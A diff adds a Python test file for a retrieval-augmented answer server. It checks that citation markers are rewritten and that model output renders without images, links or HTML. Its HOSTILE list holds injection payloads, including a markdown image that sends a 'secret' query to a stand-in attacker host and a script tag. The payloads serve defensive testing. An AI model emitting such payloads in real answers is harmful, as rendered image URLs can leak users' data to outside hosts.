@@ -1,0 +1,84 @@
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from rag.server.markdown import Link, MarkdownStream, rewritten, written
+from rag.types import Answer, Citation, Evidence, Hit, ImageRegion, Segment
+
+ANSWER = "The ape is an orangutan [E1]. It eats fruit [E1][E12]."
+HOSTILE = [
+    "![x](https://evil.example/?q=secret)",
+    "[click](https://evil.example)",
+    "![x][1]\n\n[1]: https://evil.example",
+    "<img src=https://evil.example>",
+    "<!-- --><script>alert(1)</script>",
+    "![[E1]](https://evil.example)",
+    "[E1](https://evil.example)",
+    "[E1]: https://evil.example",
+]
+
+
+def test_a_stream_cut_anywhere_is_rewritten_the_same():
+    for text in (ANSWER, *HOSTILE, "a [E", "b [E12", "c !", "d [", "e ]", "f <", "g [E1] [E1"):
+        for cut in range(len(text) + 1):
+            stream = MarkdownStream()
+            assert stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.end() == rewritten(text), (text, cut)
+
+
+@given(st.lists(st.sampled_from(["[E1]", "[E", "1", "]", "[", "!", "(", ":", "<", "a", "\n", " "]), max_size=30))
+def test_pieces_of_any_size_are_rewritten_the_same(pieces):
+    stream = MarkdownStream()
+    assert "".join(map(stream.feed, pieces)) + stream.end() == rewritten("".join(pieces))
+
+
+def test_no_marker_leaks():
+    assert rewritten(ANSWER) == "The ape is an orangutan [1]. It eats fruit [1] [12]."
+
+
+def test_what_a_model_writes_shows_no_pictures_links_or_html():
+    # As the most liberal clients render it: HTML on.
+    render = MarkdownIt("commonmark", {"html": True}).render
+    for text in HOSTILE:
+        shown = render(rewritten(text))
+        assert "<img" not in shown, text
+        assert "<a " not in shown, text
+        assert "<script" not in shown, text
+
+
+def answer(text: str, *citations: Citation) -> Answer:
+    picture = Segment("a", 0, "image", "picture", ImageRegion())
+    return Answer("Which ape?", text, citations, (Evidence(1, Hit(picture, 1.0, "/x/ape [1](2).jpg")),))
+
+
+LINKS = {1: Link("http://here/evidence/t/marked", 'ape [1](2) "x".jpg', "http://here/evidence/t/crop")}
+
+
+def test_an_answer_shows_its_picture_and_links_its_numbers():
+    text = "It is an orangutan [E1]."
+    made = written(answer(text, Citation(1, 0, len(text))), LINKS)
+    shown = MarkdownIt().render(made.text)
+    assert '<a href="http://here/evidence/t/marked" title="ape 1 2 x .jpg">1</a>' in shown
+    assert '<img src="http://here/evidence/t/crop" alt="ape 1 2 x .jpg"' in shown
+    (cite,) = made.cites
+    assert made.text[cite.start : cite.end] == "It is an orangutan [1]."
+
+
+def test_what_was_streamed_is_completed_by_the_tail():
+    text = "It is an orangutan [E1]."
+    made = written(answer(text, Citation(1, 0, len(text))), LINKS, "It is an orangutan [1].")
+    assert made.text == "It is an orangutan [1]." + made.tail
+    assert made.tail.startswith("\n\n![")
+
+
+def test_another_text_than_was_streamed_is_a_correction():
+    text = "It is an orangutan [E1]."
+    made = written(answer(text, Citation(1, 0, len(text))), LINKS, "It is an orangutan [1]. It can fly.\n")
+    assert made.text == "It is an orangutan [1]. It can fly.\n" + made.tail
+    assert "corrected" in made.tail
+    (cite,) = made.cites
+    assert made.text[cite.start : cite.end] == "It is an orangutan [1]."
+
+
+def test_a_declined_answer_is_its_text():
+    declined = Answer("Who?", "The collection does not answer this.", declined=True)
+    assert written(declined, {}).text == "The collection does not answer this."
